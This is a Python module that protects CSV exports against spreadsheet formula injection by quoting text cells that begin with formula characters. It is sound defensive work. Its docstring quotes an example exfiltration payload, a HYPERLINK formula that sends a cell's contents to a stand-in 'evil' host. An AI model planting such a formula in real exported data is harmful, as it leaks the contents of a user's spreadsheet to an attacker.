"""Text cells made safe for spreadsheets: every CSV gridmap writes goes through :func:`csv_safe_frame`.

Excel, WPS and LibreOffice evaluate a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some versions, tab or carriage return) as a formula, so a case description
``=HYPERLINK("http://evil/?"&A1)`` or an address ``@SUM(1+1)`` from a 12345 feed would run in the
clerk's spreadsheet. Following OWASP's advice ("CSV injection"), such a text cell gets a leading
single quote, which spreadsheets show as text and do not evaluate. Plain numbers (``-12.5``,
``+86``) cannot be formulas and are left alone, so negative coordinates stay numbers.

Examples
--------
>>> csv_safe("=HYPERLINK(\\"http://x\\")")
'\\'=HYPERLINK("http://x")'
>>> csv_safe("-12.5"), csv_safe("北泰花园")
('-12.5', '北泰花园')
"""

from __future__ import annotations

import re

import numpy as np
import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_RISKY_START = r"[=+\-@\t\r]"
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def csv_safe(value: object) -> object:
    """``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


def csv_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are safe to open in a spreadsheet."""
    safe = frame.copy()
    for column in safe.columns:
        series = safe[column]
        if series.dtype == object or isinstance(series.dtype, pd.StringDtype):
            # only the few cells that start like a formula are looked at one by one
            try:
                risky = series.str.match(_RISKY_START, na=False).astype(bool)
            except AttributeError:  # an object column without any text (numbers, dates)
                continue
            if risky.any():
                values = series.to_numpy(dtype=object, copy=True)
                for i in np.flatnonzero(risky.to_numpy()):
                    values[i] = csv_safe(values[i])
                safe[column] = pd.Series(values, index=series.index, dtype=object)
    safe.columns = [csv_safe(c) for c in safe.columns]
    return safe
